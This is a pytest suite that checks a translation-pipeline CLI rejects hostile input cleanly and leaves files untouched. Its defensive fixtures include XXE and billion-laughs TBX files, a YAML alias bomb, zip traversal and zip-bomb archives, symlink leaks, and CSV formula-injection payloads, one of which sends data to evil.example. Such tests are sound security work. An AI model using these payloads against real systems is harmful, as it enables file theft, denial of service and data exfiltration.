"""Hostile and broken input: one table, each row a real CLI run that must answer with one line.

Every row: exit code 2, exactly `error: <file>[:<line>]: <what> (<how to fix>)`, no traceback,
and not one byte of the project (or of the argos packages folder) changed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import DATA, run

from pipeline.glossary import load_glossary

LINE = re.compile(r"^error: (?P<file>[^:\n]+)(?::(?P<line>\d+))?: (?P<what>[^\n]+) "
                  r"\((?P<fix>[^\n]+)\)\n$")
PO = "locales/ru/LC_MESSAGES/dosing.po"
SRC = "source/dosing.md"
CFG = (DATA / "project" / "pyproject.toml").read_text("utf-8")
# A valid ru catalog header: Content-Type on line 5, the first entry on line 9.
RU = ('msgid ""\nmsgstr ""\n"Language: ru\\n"\n"MIME-Version: 1.0\\n"\n'
      '"Content-Type: text/plain; charset=UTF-8\\n"\n"Content-Transfer-Encoding: 8bit\\n"\n'
      '"Plural-Forms: nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && '
      '(n%100<10 || n%100>=20) ? 1 : 2);\\n"\n\n')
PKG = "translate-en_es"
META = {"from_code": "en", "to_code": "es", "package_version": "1.0", "type": "translate"}
TBX_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<martif><text><body><termEntry><langSet xml:lang="en"><tig><term>&secret;</term></tig>
</langSet></termEntry></body></text></martif>
"""
TBX_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE martif [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<martif><text><body><termEntry><langSet xml:lang="en"><tig><term>&lol2;</term></tig></langSet>
</termEntry></body></text></martif>
"""
CSV_ROW = b"id,en,es\nfever,fever,fiebre\ncrs,CRS,SLC,SRC,x\n"
YAML_BOMB = ("---\ntitle: Bomb\na0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
             + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9))
             + "---\n\nText.\n").encode()
ENTITY = ("TBX file declares XML entities or external references, which are not allowed "
          "(remove the <!ENTITY …> declarations; TBX needs none)")
UNTERMINATED = ("PO syntax error: unterminated string or invalid escape (close the string "
                "with \" and escape \\ and \" inside it)")


def cfg(old: str, new: str) -> bytes:
    assert old in CFG
    return CFG.replace(old, new, 1).encode()


def archive(members: dict[str, bytes], *, meta: object = META, symlink: str = "") -> bytes:
    """A small .argosmodel zip: metadata.json (unless meta is None), model.bin, tokenizer."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        if meta is not None:
            zf.writestr(f"{PKG}/metadata.json", json.dumps(meta))
        zf.writestr(f"{PKG}/model/model.bin", b"garbage " * 64)
        zf.writestr(f"{PKG}/sentencepiece.model", b"not a tokenizer")
        for name, data in members.items():
            zf.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def declared_size(data: bytes, member: str, size: int) -> bytes:
    """The archive with `member`'s uncompressed size in the central directory set to `size`."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at != -1:
        length = struct.unpack("<H", out[at + 28:at + 30])[0]
        if out[at + 46:at + 46 + length].endswith(member.encode()):
            out[at + 24:at + 28] = struct.pack("<I", size)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def real_model(tiny: Path, broken: str) -> bytes:
    """The tiny copy model as an en→es package with one file replaced by `broken` content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(tiny) as old, zipfile.ZipFile(buffer, "w") as new:
        for info in old.infolist():
            name = info.filename.replace("translate-en_fr-copy", PKG)
            data = old.read(info)
            if name.endswith("metadata.json"):
                data = json.dumps({**json.loads(data), "to_code": "es"}).encode()
            if name.endswith(broken) and broken == "model.bin":
                data = data[: len(data) // 2]
            elif name.endswith(broken):
                data = b"\x00junk"
            new.writestr(name, data)
    return buffer.getvalue()


@dataclass(frozen=True)
class Link:
    """A symbolic link to put in the project instead of a file."""

    target: str


Content = bytes | Link | Callable[[Path], bytes]


@dataclass(frozen=True)
class Case:
    """One bad input: files to write (relative to the project), the command, the one line."""

    files: dict[str, Content]
    args: tuple[str, ...]
    message: str
    before: tuple[tuple[str, ...], ...] = ()  # commands that set the scene (not snapshotted)
    subprocess: bool = False  # CTranslate2 logs to fd 2 itself: watch the real stderr
    seconds: float = 10.0


CASES: dict[str, Case] = {
    # ---- malformed catalogs: every command that writes, and status, stops before writing
    "po unterminated string": Case(
        {PO: (RU + 'msgid "Fever\nmsgstr ""\n').encode()}, ("extract",),
        f"error: {PO}:9: {UNTERMINATED}"),
    "po unterminated string (translate)": Case(
        {PO: (RU + 'msgid "Fever\nmsgstr ""\n').encode()},
        ("translate", "--lang", "ru", "--engine", "pseudo"),
        f"error: {PO}:9: {UNTERMINATED}"),
    "po unterminated string (build)": Case(
        {PO: (RU + 'msgid "Fever\nmsgstr ""\n').encode()}, ("build", "--draft"),
        f"error: {PO}:9: {UNTERMINATED}"),
    "po unterminated string (status)": Case(
        {PO: (RU + 'msgid "Fever\nmsgstr ""\n').encode()}, ("status",),
        f"error: {PO}:9: {UNTERMINATED}"),
    "po bad escape": Case(
        {PO: (RU + 'msgid "Fever\\q"\nmsgstr ""\n').encode()}, ("extract",),
        f"error: {PO}:9: {UNTERMINATED}"),
    "po duplicate entry": Case(
        {PO: (RU + 'msgid "Fever"\nmsgstr "Лихорадка"\n\nmsgid "Fever"\nmsgstr "Жар"\n').encode()},
        ("extract",),
        f"error: {PO}:12: duplicate entry for msgid 'Fever' (first at line 9) "
        "(remove one of the two entries)"),
    "po plural form beyond nplurals (build)": Case(
        {PO: (RU + 'msgid "day"\nmsgid_plural "days"\nmsgstr[0] "день"\nmsgstr[1] "дня"\n'
              'msgstr[2] "дней"\nmsgstr[3] "дни"\n').encode()}, ("build", "--draft"),
        f"error: {PO}:9: msgstr[3] but the header says nplurals=3 (keep msgstr[0] to "
        "msgstr[2] for 'day', or fix Plural-Forms)"),
    "po charset ISO-8859-1": Case(
        {PO: (RU.replace("UTF-8", "ISO-8859-1") + 'msgid "Fever"\nmsgstr "fièvre"\n'
              ).encode("latin-1")}, ("extract",),
        f"error: {PO}:5: catalog declares charset ISO-8859-1 (convert it to UTF-8 "
        "(msgconv -t UTF-8) and declare charset=UTF-8)"),
    "po charset KOI8-R": Case(
        {PO: (RU.replace("UTF-8", "KOI8-R") + 'msgid "Fever"\nmsgstr "Лихорадка"\n'
              ).encode("koi8-r")}, ("translate", "--lang", "ru", "--engine", "pseudo"),
        f"error: {PO}:5: catalog declares charset KOI8-R (convert it to UTF-8 "
        "(msgconv -t UTF-8) and declare charset=UTF-8)"),
    "po charset lies (says UTF-8, is Latin-1)": Case(
        {PO: (RU + 'msgid "Fever"\nmsgstr "fièvre"\n').encode("latin-1")}, ("extract",),
        f"error: {PO}:10: catalog is not valid UTF-8 (save it as UTF-8 with 'charset=UTF-8' "
        "in Content-Type)"),
    "po binary": Case(
        {PO: RU.encode() + b'msgid "\x00"\n'}, ("extract",),
        f"error: {PO}:9: binary data in a catalog (restore the file from version control)"),
    "pot unterminated string": Case(
        {"locales/dosing.pot": (RU + 'msgid "Fever\nmsgstr ""\n').encode()}, ("extract",),
        f"error: locales/dosing.pot:9: {UNTERMINATED}"),
    # ---- sources
    "source binary": Case(
        {SRC: b"\x89PNG\r\n\x1a\n\0\0\0"}, ("extract",),
        f"error: {SRC}:3: binary file, not Markdown (remove it from the source folder or save "
        "it as UTF-8 text)"),
    "source not UTF-8": Case(
        {SRC: "# Title\n\nCafé au lait.\n".encode("latin-1")}, ("extract",),
        f"error: {SRC}:3: not valid UTF-8 (re-save the file with UTF-8 encoding)"),
    "source not UTF-8 (build)": Case(
        {SRC: "# Title\n\nCafé au lait.\n".encode("latin-1")}, ("build", "--draft"),
        f"error: {SRC}:3: not valid UTF-8 (re-save the file with UTF-8 encoding)"),
    "source UTF-16": Case(
        {SRC: "# Title\n\nText.\n".encode("utf-16")}, ("extract",),
        f"error: {SRC}:1: UTF-16 text, not UTF-8 (re-save the file with UTF-8 encoding)"),
    "source 5 MB single-line paragraph": Case(
        {SRC: b"# Big\n\n" + b"The patient takes the dose. " * 180_000 + b"\n"}, ("extract",),
        f"error: {SRC}:3: paragraph of 5,039,999 characters is too long to translate (at most "
        "20,000) (split it into paragraphs separated by blank lines)", seconds=3.0),
    "source 200 kB title": Case(
        {SRC: b"---\ntitle: " + b"word " * 40_000 + b"\n---\n"}, ("extract",),
        f"error: {SRC}:2: title of 199,999 characters is too long to translate (at most "
        "20,000) (split it into paragraphs separated by blank lines)", seconds=3.0),
    "source front matter alias bomb": Case(
        {SRC: YAML_BOMB}, ("extract",),
        f"error: {SRC}:4: front matter: aliases (*name) are not allowed (fix the YAML between "
        "the '---' lines)", seconds=3.0),
    "source symlink outside the project": Case(
        {"source/leak.md": Link("../../secret.md")}, ("extract",),
        "error: source/leak.md: symbolic link to a file outside the source folder (copy the "
        "document into the source folder instead of linking it)"),
    "image symlink outside the project (build)": Case(
        {"source/images/pills.png": Link("../../../secret.md")}, ("build", "--draft"),
        "error: source/images/pills.png: symbolic link to a file outside the source folder "
        "(copy the file into the source folder instead of linking it)"),
    # ---- document names: '../x.md' cannot be a file name; these can, and are refused
    "document name hidden": Case(
        {"source/.hidden.md": b"# Hidden\n"}, ("extract",),
        "error: source/.hidden.md: document name '.hidden' is not usable as a catalog name "
        "(rename the file using letters, digits, '.', '_' and '-')"),
    "document name with a space": Case(
        {"source/a b.md": b"# Space\n"}, ("extract",),
        "error: source/a b.md: document name 'a b' is not usable as a catalog name (rename the "
        "file using letters, digits, '.', '_' and '-')"),
    "document name '..md'": Case(
        {"source/..md": b"# Dots\n"}, ("build", "--draft"),
        "error: source/..md: document name '.' is not usable as a catalog name (rename the "
        "file using letters, digits, '.', '_' and '-')"),
    # ---- configuration
    "config invalid TOML": Case(
        {"pyproject.toml": b"[tool.pipeline\n"}, ("extract",),
        "error: {root}/pyproject.toml:1: invalid TOML: Expected ']' at the end of a table "
        "declaration (fix the TOML syntax)"),
    "config segmentation is a number": Case(
        {"pyproject.toml": cfg('segmentation = "sentence"', "segmentation = 3")}, ("extract",),
        "error: {root}/pyproject.toml:4: 'segmentation' must be one of sentence, paragraph, "
        "not 3 (write e.g. segmentation = \"sentence\")"),
    "config folder is a number": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]', 'engines = ["pseudo"]\nsource-dir = 5')},
        ("extract",),
        "error: {root}/pyproject.toml:6: 'source-dir' must be a folder name, not 5 (write e.g. "
        "source-dir = \"source\")"),
    "config engines is a string": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]', 'engines = "pseudo"')}, ("check",),
        "error: {root}/pyproject.toml:5: 'engines' must be a list of engines from argos, "
        "apertium, pseudo (write e.g. engines = [\"argos\", \"apertium\"])"),
    "config language status is a number": Case(
        {"pyproject.toml": cfg('ru = "released"', "ru = 3")}, ("extract",),
        "error: {root}/pyproject.toml:9: language 'ru' must be \"released\", \"draft\" or a "
        "table (write e.g. ru = \"draft\")"),
    "config language status unknown": Case(
        {"pyproject.toml": cfg('ru = "released"', 'ru = "published"')}, ("extract",),
        "error: {root}/pyproject.toml:9: language 'ru' has status 'published' (use \"released\" "
        "or \"draft\")"),
    "config project-name is a list": Case(
        {"pyproject.toml": cfg('project-name = "Test project"', 'project-name = ["x"]')},
        ("extract",),
        "error: {root}/pyproject.toml:2: 'project-name' must be text, not ['x'] (write e.g. "
        "project-name = \"Patient information\")"),
    "config disabled-checks is a string": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]',
                               'engines = ["pseudo"]\ndisabled-checks = "length"')},
        ("extract",),
        "error: {root}/pyproject.toml:6: 'disabled-checks' must be a list of check names "
        "(write e.g. disabled-checks = [\"length\"])"),
    "config unknown setting": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]', 'engines = ["pseudo"]\ncolour = "red"')},
        ("extract",),
        "error: {root}/pyproject.toml:6: unknown setting 'colour' in [tool.pipeline] (known "
        "settings: disabled-checks, engines, glossary-dir, languages, locales-dir, models, "
        "on-source-change, organisation, output-dir, project-name, review, segmentation, "
        "site-url, source-dir, source-language, theme-dir)"),
    "config unknown language setting": Case(
        {"pyproject.toml": cfg('ru = "released"', 'ru = { status = "released", colour = 1 }')},
        ("extract",),
        "error: {root}/pyproject.toml:9: unknown setting 'colour' for language 'ru' (known "
        "settings: engines, status)"),
    "config folder outside the project": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]',
                               'engines = ["pseudo"]\noutput-dir = "../out"')}, ("build",),
        "error: {root}/pyproject.toml:6: 'output-dir' points outside the project: ../out (use a "
        "folder inside the project)"),
    "config absolute folder": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]',
                               'engines = ["pseudo"]\nlocales-dir = "/tmp"')}, ("extract",),
        "error: {root}/pyproject.toml:6: 'locales-dir' points outside the project: /tmp (use a "
        "folder inside the project)"),
    "config output folder is the source folder": Case(
        {"pyproject.toml": cfg('engines = ["pseudo"]',
                               'engines = ["pseudo"]\noutput-dir = "source"')}, ("build",),
        "error: {root}/pyproject.toml:6: 'output-dir' overlaps the source folder (builds "
        "replace what is in it: give it a folder of its own, e.g. output-dir = \"output\")"),
    # ---- language tags, in the config and on the command line
    "language tag unknown": Case(
        {"pyproject.toml": cfg('ru = "released"', 'xx = "released"')}, ("extract",),
        "error: {root}/pyproject.toml:9: unknown language tag 'xx' (use a tag Babel knows, such "
        "as 'es', 'fr', 'ar', 'zh')"),
    "language tag ../x": Case(
        {"pyproject.toml": cfg('ru = "released"', '"../x" = "released"')}, ("extract",),
        "error: {root}/pyproject.toml:9: '../x' is not a language tag (use a BCP 47 tag such as "
        "'es', 'fr', 'zh' or 'pt-BR')"),
    "language tag es/../../x": Case(
        {"pyproject.toml": cfg('ru = "released"', '"es/../../x" = "released"')}, ("extract",),
        "error: {root}/pyproject.toml:9: 'es/../../x' is not a language tag (use a BCP 47 tag "
        "such as 'es', 'fr', 'zh' or 'pt-BR')"),
    "language tag en as a target": Case(
        {"pyproject.toml": cfg('ru = "released"', 'en = "released"')}, ("extract",),
        "error: {root}/pyproject.toml:9: 'en' is the source language, not a target (remove it "
        "from [tool.pipeline.languages])"),
    "language tags pt-BR and pt_BR (one catalog folder)": Case(
        {"pyproject.toml": cfg('ru = "released"', 'pt-BR = "released"\npt_BR = "draft"')},
        ("extract",),
        "error: {root}/pyproject.toml:10: 'pt_BR' and 'pt-BR' name the same language (one "
        "catalog folder) (keep one of them)"),
    "--lang xx": Case(
        {}, ("translate", "--lang", "xx", "--engine", "pseudo"),
        "error: {root}/pyproject.toml: language 'xx' is not configured (configured: es, ru, ar, "
        "zh; add it under [tool.pipeline.languages])"),
    "--lang ../x": Case(
        {}, ("build", "--lang", "../x"),
        "error: {root}/pyproject.toml: language '../x' is not configured (configured: es, ru, "
        "ar, zh; add it under [tool.pipeline.languages])"),
    "--lang es/../../x": Case(
        {}, ("translate", "--lang", "es/../../x"),
        "error: {root}/pyproject.toml: language 'es/../../x' is not configured (configured: es, "
        "ru, ar, zh; add it under [tool.pipeline.languages])"),
    "--lang en": Case(
        {}, ("check", "--lang", "en"),
        "error: {root}/pyproject.toml: language 'en' is not configured (configured: es, ru, ar, "
        "zh; add it under [tool.pipeline.languages])"),
    # ---- glossary: TBX entities and a broken CSV, imported or found in glossary/
    "TBX external entity (import)": Case(
        {"../in/evil.tbx": TBX_XXE}, ("glossary", "import", "{tmp}/in/evil.tbx"),
        f"error: {{tmp}}/in/evil.tbx:2: {ENTITY}"),
    "TBX entity expansion (import)": Case(
        {"../in/lol.tbx": TBX_LAUGHS}, ("glossary", "import", "{tmp}/in/lol.tbx"),
        f"error: {{tmp}}/in/lol.tbx:3: {ENTITY}"),
    "TBX external entity in glossary/ (translate)": Case(
        {"glossary/evil.tbx": TBX_XXE}, ("translate", "--engine", "pseudo"),
        f"error: glossary/evil.tbx:2: {ENTITY}"),
    "TBX entity expansion in glossary/ (check)": Case(
        {"glossary/lol.tbx": TBX_LAUGHS}, ("check",), f"error: glossary/lol.tbx:3: {ENTITY}"),
    "CSV malformed row (import)": Case(
        {"../in/bad.csv": CSV_ROW}, ("glossary", "import", "{tmp}/in/bad.csv"),
        "error: {tmp}/in/bad.csv:3: row has 5 cells, the header has 3 (quote cells that contain "
        "commas; one row per concept)"),
    "CSV malformed row in glossary/ (translate)": Case(
        {"glossary/terms.csv": CSV_ROW}, ("translate", "--engine", "pseudo"),
        "error: glossary/terms.csv:3: row has 5 cells, the header has 3 (quote cells that "
        "contain commas; one row per concept)"),
    "CSV malformed row in glossary/ (check)": Case(
        {"glossary/terms.csv": CSV_ROW}, ("check",),
        "error: glossary/terms.csv:3: row has 5 cells, the header has 3 (quote cells that "
        "contain commas; one row per concept)"),
    # ---- argos model archives
    "argosmodel path traversal": Case(
        {"../in/m.argosmodel": archive({f"{PKG}/../../evil.txt": b"x"})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: unsafe path in archive: 'translate-en_es/../../evil.txt' "
        "(refusing a file that would be written outside the folder)"),
    "argosmodel absolute path": Case(
        {"../in/m.argosmodel": archive({"/tmp/evil.txt": b"x"})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: unsafe path in archive: '/tmp/evil.txt' (refusing a "
        "file that would be written outside the folder)"),
    "argosmodel symlink member": Case(
        {"../in/m.argosmodel": archive({}, symlink=f"{PKG}/model/link")},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: symbolic link in archive: 'translate-en_es/model/link' "
        "(argos models contain plain files only)"),
    "argosmodel zip bomb": Case(
        {"../in/m.argosmodel": archive({f"{PKG}/model/big.bin": bytes(3 << 20)})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: translate-en_es/model/big.bin expands 1026× (this looks "
        "like a zip bomb, not a model)"),
    "argosmodel absurd declared size": Case(
        {"../in/m.argosmodel": declared_size(archive({}), "model.bin", 0xFFFF_FFF0)},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: translate-en_es/model/model.bin expands 286331152× "
        "(this looks like a zip bomb, not a model)"),
    "argosmodel missing metadata": Case(
        {"../in/m.argosmodel": archive({}, meta=None)},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: metadata.json is missing from the package (argos "
        "packages need metadata.json, model/ and sentencepiece.model)"),
    "argosmodel metadata code is a list": Case(
        {"../in/m.argosmodel": archive({}, meta={"from_code": ["en"], "to_code": "es"})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: metadata.json: 'from_code' must be a language code, not "
        "['en'] (this is not an argos translation package)"),
    "argosmodel metadata code is path-like": Case(
        {"../in/m.argosmodel": archive({}, meta={"from_code": "en", "to_code": "../x"})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: metadata.json: 'to_code' must be a language code, not "
        "'../x' (this is not an argos translation package)"),
    "argosmodel metadata not an object": Case(
        {"../in/m.argosmodel": archive({}, meta=["en", "es"])},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: metadata.json must be a JSON object (this is not an "
        "argos translation package)"),
    "argosmodel metadata type is a number": Case(
        {"../in/m.argosmodel": archive({}, meta={**META, "type": 5})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: metadata.json: package type 5 is not a translation "
        "package (install a translation (.argosmodel) package)"),
    "argosmodel two top-level folders": Case(
        {"../in/m.argosmodel": archive({"other/readme.txt": b"x"})},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: the archive must hold exactly one top-level folder, "
        "found 2 (this is not an argos package)"),
    "argosmodel not a zip": Case(
        {"../in/m.argosmodel": b"PK\x03\x04 truncated"},
        ("models", "install", "{tmp}/in/m.argosmodel"),
        "error: {tmp}/in/m.argosmodel: not a valid .argosmodel (zip) file: File is not a zip "
        "file (the model file is corrupt or not an argos model)"),
    "argos model.bin garbage (translate)": Case(
        {"../in/m.argosmodel": archive({})}, ("translate", "--lang", "es", "--engine", "argos"),
        "error: {argos}/translate-en_es: cannot load the argos model: Unsupported model binary "
        "version.{any} but the model has binary version v1651663207.{any} (reinstall it with "
        "'pipeline models install FILE')",
        before=(("models", "install", "{tmp}/in/m.argosmodel"),), subprocess=True),
    "argos model.bin truncated (translate)": Case(
        {"../in/m.argosmodel": lambda tiny: real_model(tiny, "model.bin")},
        ("translate", "--lang", "es", "--engine", "argos"),
        "error: {argos}/translate-en_es: cannot load the argos model: Variable "
        "'decoder/layer_0/{any}' has an invalid payload size (reinstall it with "
        "'pipeline models install FILE')",
        before=(("models", "install", "{tmp}/in/m.argosmodel"),), subprocess=True),
    "argos sentencepiece.model garbage (translate)": Case(
        {"../in/m.argosmodel": lambda tiny: real_model(tiny, "sentencepiece.model")},
        ("translate", "--lang", "es", "--engine", "argos"),
        "error: {argos}/translate-en_es: cannot load the argos model: INTERNAL: could not parse "
        "ModelProto from {argos}/translate-en_es/sentencepiece.model (reinstall it with "
        "'pipeline models install FILE')",
        before=(("models", "install", "{tmp}/in/m.argosmodel"),), subprocess=True),
}


@pytest.fixture(scope="module")
def extracted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The test project after one extract: templates and catalogs in place."""
    root = tmp_path_factory.mktemp("hostile") / "project"
    shutil.copytree(DATA / "project", root)
    assert run(root, "extract").exit_code == 0
    return root


@pytest.fixture(scope="session")
def tiny(tiny_argos: dict[str, Path]) -> Path:
    return tiny_argos["copy"]


def snapshot(root: Path) -> dict[str, bytes | str]:
    """Every file's bytes (link targets for links; the lock file aside: it is not content)."""
    if not root.exists():
        return {}
    return {p.relative_to(root).as_posix(): os.readlink(p) if p.is_symlink() else
            p.read_bytes() if p.is_file() else "<dir>"
            for p in sorted(root.rglob("*")) if p.name != ".pipeline.lock"}


def invoke(root: Path, args: list[str], *, real: bool, argos: Path) -> tuple[int, str]:
    if not real:
        result = run(root, *args)
        return result.exit_code, result.output
    env = {**os.environ, "ARGOS_PACKAGES_DIR": str(argos), "PYTHONWARNINGS": "ignore"}
    done = subprocess.run([sys.executable, "-m", "pipeline", "--project", str(root), *args],
                          capture_output=True, text=True, env=env, timeout=120, check=False)
    return done.returncode, done.stdout + done.stderr


@pytest.mark.parametrize("name", list(CASES))
def test_bad_input_is_one_line_exit_2_nothing_written(
        name: str, extracted: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        request: pytest.FixtureRequest) -> None:
    case = CASES[name]
    root = tmp_path / "project"
    shutil.copytree(extracted, root, symlinks=True)
    argos = tmp_path / "argos-packages"
    monkeypatch.setenv("ARGOS_PACKAGES_DIR", str(argos))
    (tmp_path / "secret.md").write_text("# Secret\n\nThe password is hunter2.\n", "utf-8")
    for rel, content in case.files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content.target)
        else:
            path.write_bytes(content(request.getfixturevalue("tiny")) if callable(content)
                             else content)

    def fill(text: str) -> str:
        return text.replace("{root}", str(root)).replace("{tmp}", str(tmp_path)).replace(
            "{argos}", str(argos))

    for command in case.before:
        assert run(root, *map(fill, command)).exit_code == 0
    before = snapshot(root), snapshot(argos)
    started = time.perf_counter()
    code, output = invoke(root, [fill(a) for a in case.args], real=case.subprocess,
                          argos=argos)
    elapsed = time.perf_counter() - started
    expected = fill(case.message) + "\n"
    if "{any}" in expected:  # engine wording that a CTranslate2 upgrade may change
        pattern = re.escape(expected).replace(re.escape("{any}"), "[^\n]+")
        assert code == 2 and re.fullmatch(pattern, output), output
    else:
        assert (code, output) == (2, expected)
    assert LINE.match(output), output
    assert (snapshot(root), snapshot(argos)) == before
    assert not (tmp_path / "evil.txt").exists() and not Path("/tmp/evil.txt").exists()
    assert elapsed < case.seconds


# ---------------------------------------------------------------- inputs that must work


@pytest.mark.parametrize("content", [b"", b"---\ntitle: Only a title\n---\n", b"---\n---\n",
                                     b"\xef\xbb\xbf", b"\n\n   \n"],
                         ids=["0 bytes", "front matter only", "empty front matter", "BOM only",
                              "blank lines"])
def test_empty_documents_extract_and_build(extracted: Path, tmp_path: Path,
                                           content: bytes) -> None:
    """An empty document is a page still being written: it extracts and builds, not an error."""
    root = tmp_path / "project"
    shutil.copytree(extracted, root)
    (root / "source" / "empty.md").write_bytes(content)
    result = run(root, "extract")
    assert result.exit_code == 0, result.output
    segments = 1 if b"title" in content else 0
    pot = (root / "locales" / "empty.pot").read_text("utf-8")
    assert pot.count('msgid "') == 1 + segments  # the header, and the title if there is one
    built = run(root, "build", "--draft", "--lang", "ru", "--format", "html")
    assert built.exit_code == 0, built.output
    page = (root / "output" / "ru" / "empty.html").read_text("utf-8")
    assert "<title>" + ("Only a title" if segments else "empty") in page


@pytest.mark.parametrize("name", ["x..md", "v2.0-notes_final.md", "A1.md"])
def test_unusual_but_safe_document_names_work(extracted: Path, tmp_path: Path,
                                              name: str) -> None:
    root = tmp_path / "project"
    shutil.copytree(extracted, root)
    (root / "source" / name).write_text("# Notes\n\nDrink water.\n", "utf-8")
    assert run(root, "extract").exit_code == 0
    stem = name.removesuffix(".md")
    assert (root / "locales" / "ru" / "LC_MESSAGES" / f"{stem}.po").is_file()
    assert run(root, "build", "--draft", "--lang", "ru", "--format", "html").exit_code == 0
    assert (root / "output" / "ru" / f"{stem}.html").is_file()
    assert sorted(p.name for p in (root / "output").iterdir()) == [
        ".build-manifest.json", "index.html", "review.html", "ru", "style.css"]


FORMULAS = {"hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "cmd": "+cmd|' /C calc'!A0", "arith": "-2+3", "sum": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_csv_injection_is_neutralised_on_export_and_restored_on_import(tmp_path: Path) -> None:
    source = tmp_path / "a"
    (source / "glossary").mkdir(parents=True)
    (source / "pyproject.toml").write_text(CFG, "utf-8")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "en", "es", "note"])
    for key, value in FORMULAS.items():  # the file as a careless tool would write it
        writer.writerow([key, f"{key} term", value, value])
    (source / "glossary" / "terms.csv").write_text(out.getvalue(), "utf-8")
    original = load_glossary(source / "glossary")
    assert {t.id: t.note for t in original.terms} == FORMULAS
    exported = tmp_path / "export.csv"
    result = run(source, "glossary", "export", "--format", "csv", "-o", str(exported))
    assert result.exit_code == 0, result.output
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    # A spreadsheet runs a cell that starts with = + - @ (or tab/CR): none does any more.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[-1] for row in rows[1:]] == ["'" + value for value in FORMULAS.values()]
    target = tmp_path / "b"
    (target / "glossary").mkdir(parents=True)
    (target / "pyproject.toml").write_text(CFG, "utf-8")
    result = run(target, "glossary", "import", str(exported))
    assert result.exit_code == 0, result.output
    again = load_glossary(target / "glossary")
    assert [(t.id, t.source, t.targets, t.note) for t in again.terms] == [
        (t.id, t.source, t.targets, t.note) for t in original.terms]
    assert again.fingerprint == original.fingerprint
